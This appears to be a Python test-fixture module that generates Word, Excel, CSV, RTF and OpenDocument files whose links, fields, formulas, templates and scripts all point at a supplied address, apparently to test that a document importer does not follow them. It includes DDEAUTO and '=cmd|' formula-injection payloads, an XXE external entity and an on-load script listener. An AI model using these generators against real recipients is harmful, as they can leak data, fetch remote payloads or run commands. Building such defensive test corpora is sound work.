"""Word, Excel, RTF and OpenDocument files that name an address in every way that a careless reader would follow."""

from __future__ import annotations

import io
import zipfile

import openpyxl

from tests.disclosures.importing.hostile import _repacked, workbook
from tests.disclosures.importing.wordfiles import NAMES, docx, p

WORDS = "学生会工作人员名单和章程"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word(site: str) -> dict[str, bytes]:
    """Word: linked parts, a template, fields, a frame of another format, a mail merge source."""
    kinds = {
        "image": "image", "attachedTemplate": "template", "oleObject": "ole", "frame": "frame",
        "aFChunk": "chunk", "subDocument": "sub", "hyperlink": "link", "stylesWithEffects": "styles",
        "mailMergeSource": "merge", "video": "video",
    }  # fmt: skip
    relations = "".join(
        f'<Relationship Id="x{kind}" Type="{_OFFICE}/{kind}" Target="{site}/{name}" TargetMode="External"/>'
        for kind, name in kinds.items()
    )
    fields = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in (
            f'INCLUDEPICTURE "{site}/field.png" \\d',
            f'INCLUDETEXT "{site}/field.docx"',
            f'DDEAUTO cmd "{site}/dde"',
            f'HYPERLINK "{site}/field"',
            f'IMPORT "{site}/import.png"',
            f'LINK Word.Document "{site}/linked.docx"',
        )
    )
    chunk = '<w:altChunk r:id="xaFChunk"/><w:subDoc r:id="xsubDocument"/>'
    picture = (
        '<w:p><w:r><w:drawing><a:blip r:link="ximage" r:embed="ximage"/></w:drawing></w:r></w:p>'
    )
    whole = docx(picture + fields + chunk + p(WORDS), relations=relations)
    settings = f'<w:settings {NAMES}><w:attachedTemplate r:id="t"/><w:updateFields w:val="true"/></w:settings>'
    linked = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="t" Type="{_OFFICE}/attachedTemplate" Target="{site}/t.dotm" TargetMode="External"/>'
        f"</Relationships>"
    )
    parts = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": linked}
    return {
        "word with links and fields": whole,
        "word with a template elsewhere": _repacked(
            docx(p(WORDS)), {name: text.encode() for name, text in parts.items()}
        ),
    }


def sheets(site: str) -> dict[str, bytes]:
    """Workbooks: formulas that fetch, links, a connection, a table from the web; text with formulas."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    rows = [
        ("姓名", "部门"),
        (f'=IMAGE("{site}/image.png")', f'=WEBSERVICE("{site}/service")'),
        (f"='[{site}/book.xlsx]Sheet1'!A1", f'=HYPERLINK("{site}/link","x")'),
        (f'=RTD("x","","{site}/rtd")', f"=cmd|'/c {site}'!A1"),
    ]
    for row in rows:
        sheet.append(row)
    sheet["A5"].hyperlink = f"{site}/hyperlink"
    target = io.BytesIO()
    book.save(target)
    connections = (
        f'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="{site}/connection"/></connection></connections>'
    )
    external = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{_OFFICE}/externalLinkPath" Target="{site}/external.xlsx" TargetMode="External"/></Relationships>'
    )
    linked = _repacked(
        target.getvalue(),
        {
            "xl/connections.xml": connections.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": external.encode(),
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        },
    )
    text = "姓名,部门\n" + "\n".join(",".join(f'"{cell}"' for cell in row) for row in rows[1:])
    return {
        "workbook": linked,
        "text table": text.encode(),
        "plain workbook": workbook([["姓名"], [site]]),
    }


def office(site: str) -> dict[str, bytes]:
    """What LibreOffice opens: RTF with fields and a template, OpenDocument with everything linked."""
    field = r'{{\field{{\*\fldinst {} "{}" \\d}}{{\fldrslt}}}}'
    rtf = (
        r"{\rtf1\ansi{\*\template " + site + "/t.dotm}" + field.format("INCLUDEPICTURE", f"{site}/r.png")
        + field.format("INCLUDETEXT", f"{site}/r.rtf") + field.format("IMPORT", f"{site}/i.png")
        + r" text\par}"
    )  # fmt: skip
    return {"rich text": rtf.encode(), "open document": _odt(site)}


def _odt(site: str) -> bytes:
    names = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
        for short, long in (("office", "office"), ("text", "text"), ("draw", "drawing"), ("style", "style"), ("script", "script"))
    )  # fmt: skip
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY e SYSTEM "{site}/entity">]>'
        f'<office:document-content {names} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
        f'<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        f'script:event-name="dom:load" xlink:href="{site}/script" xlink:type="simple"/></office:event-listeners></office:scripts>'
        f'<office:body><office:text><text:section text:name="s"><text:section-source xlink:href="{site}/section.odt" '
        f'xlink:show="embed"/></text:section><text:p>{WORDS}<draw:frame><draw:image xlink:href="{site}/odt.png" '
        f'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame><draw:frame><draw:object '
        f'xlink:href="{site}/object.odt"/></draw:frame><draw:frame><draw:plugin xlink:href="{site}/plugin"/></draw:frame>'
        f"</text:p></office:text></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)
    return target.getvalue()
